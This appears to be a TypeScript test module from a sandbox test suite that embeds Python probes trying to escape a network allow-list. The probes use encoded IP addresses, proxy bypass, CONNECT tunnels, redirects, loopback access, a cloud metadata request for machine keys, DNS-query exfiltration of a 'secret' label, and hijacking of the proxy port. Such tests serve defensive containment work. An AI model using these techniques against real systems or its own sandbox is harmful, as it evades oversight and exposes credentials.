/** To places that are not on the list: by address, by name, by redirect, past the proxy, by DNS. */
import { type Attack, type Expected, fails, SAME_USER, succeeds, UNSEEN, untried } from '../attack.ts';

const OPEN = succeeds('without a sandbox it has the network of the machine', SAME_USER);
const REFUSED: Expected = fails('the proxy lets through what is listed', { event: 'network.refused' });
const NO_ROUTE = fails('the box has no way out but its proxy', UNSEEN);

/** Through whatever proxy the environment names, if any. */
const GET = `
import urllib.request
def get(url, proxy=True):
    handlers = [] if proxy else [urllib.request.ProxyHandler({})]
    try:
        say(urllib.request.build_opener(*handlers).open(url, timeout=5).read())
    except urllib.error.HTTPError as error:
        say(error.code, error.read()[:300])
OUT = FACTS['outside']
`;

const reach = (
  name: string,
  wants: string,
  program: string,
  expected: Attack['expected'],
  more: Partial<Attack> = {},
): Attack => ({
  name: `network/${name}`,
  wants,
  program: GET + program,
  took: ({ targets }, printed) => printed.includes(targets.secret),
  expected,
  ...more,
});

export const network: Attack[] = [
  reach(
    'address',
    'a private host that is not listed, by its address, through the proxy',
    "attempt('get', lambda: get('http://%s:%d/' % (OUT['address'], OUT['private'][0])))",
    { none: OPEN, bubblewrap: REFUSED },
    { short: true },
  ),
  reach(
    'address-written',
    'the same, by other ways to write it',
    `
import ipaddress
number = int(ipaddress.ip_address(OUT['address']))
for host in (str(number), hex(number), '[::ffff:%s]' % OUT['address'], OUT['address'] + '.'):
    attempt(host, lambda: get('http://%s:%d/' % (host, OUT['private'][1])))
`,
    { none: OPEN, bubblewrap: REFUSED },
  ),
  reach(
    'past-proxy',
    'the same, without the proxy',
    "attempt('get', lambda: get('http://%s:%d/' % (OUT['address'], OUT['private'][2]), False))",
    { none: OPEN, bubblewrap: NO_ROUTE },
  ),
  reach(
    'tunnel',
    'the same, by CONNECT',
    `
def tunnel():
    proxy = os.environ['http_proxy'].split('/')[-1].split(':')
    connection = socket.create_connection((proxy[0], int(proxy[1])), 5)
    connection.sendall(b'CONNECT %s:%d HTTP/1.1\\r\\nhost: x\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n' % (OUT['address'].encode(), OUT['private'][3]))
    say(receive(connection, None, 3))
attempt('tunnel', tunnel)
`,
    { none: untried('there is no proxy'), bubblewrap: REFUSED },
  ),
  reach(
    'redirect',
    'the same, sent there by a host that is listed',
    "attempt('get', lambda: get('http://%s:%d/away' % (OUT['address'], OUT['listed'])))",
    { none: OPEN, bubblewrap: REFUSED },
    { short: true },
  ),
  reach(
    'loopback',
    'a server on the loopback of the machine, straight and through the proxy',
    `
for host in ('127.0.0.1', 'localhost', '0.0.0.0', '[::ffff:127.0.0.1]'):
    for proxy in (True, False):
        attempt((host, proxy), lambda: get('http://%s:%d/' % (host, OUT['loopback']), proxy))
def tunnel(host):
    proxy = os.environ['http_proxy'].split('/')[-1].split(':')
    connection = socket.create_connection((proxy[0], int(proxy[1])), 5)
    connection.sendall(b'GET http://%s:%d/ HTTP/1.1\\r\\nhost: %s\\r\\n\\r\\n' % (host, OUT['loopback'], host))
    say(receive(connection, None, 3))
for host in (b'127.0.0.1', b'localhost', b'0.0.0.0', b'127.1', b'[::1]', b'[::ffff:7f00:1]'):
    attempt(host, lambda: tunnel(host))
`,
    { none: OPEN, bubblewrap: REFUSED },
    { short: true },
  ),
  reach(
    'metadata',
    'the keys of the machine, from the metadata address of a cloud',
    `
for proxy in (True, False):
    attempt(proxy, lambda: get('http://169.254.169.254/latest/meta-data/', proxy))
`,
    {
      none: untried('here no cloud answers; without a sandbox it has the network of the machine'),
      bubblewrap: REFUSED,
    },
  ),
  {
    name: 'network/name-asked',
    wants: 'to send words out as names that are looked up',
    program: `
attempt('look up', lambda: say('RESOLVED', socket.getaddrinfo('example.org', 80)))
def ask():
    channel = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    query = b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b'\\6secret\\7example\\3org\\0\\0\\1\\0\\1'
    channel.sendto(query, ('192.0.2.1', 53))
    say('SENT')
attempt('ask', ask)
`,
    took: (_, printed) => printed.includes('RESOLVED') || printed.includes('SENT'),
    expected: { none: succeeds('a datagram leaves this machine', SAME_USER), bubblewrap: NO_ROUTE },
    short: true,
  },
  {
    name: 'network/relay-widened',
    wants: 'a port of its own in the place of its proxy, so that others of its box talk to it',
    program: `
def take():
    port = int(os.environ['http_proxy'].rsplit(':', 1)[1].strip('/'))
    for options in ((socket.SO_REUSEADDR,), (socket.SO_REUSEPORT,), (socket.SO_REUSEADDR, socket.SO_REUSEPORT)):
        server = socket.socket()
        for option in options:
            server.setsockopt(socket.SOL_SOCKET, option, 1)
        for address in ('127.0.0.1', '0.0.0.0'):
            attempt((options, address), lambda: (server.bind((address, port)), server.listen(), say('TAKEN')))
attempt('take', take)
`,
    took: (_, printed) => printed.includes('TAKEN'),
    expected: {
      none: untried('there is no proxy'),
      bubblewrap: fails('the shim holds the port from before its start', UNSEEN),
    },
  },
];
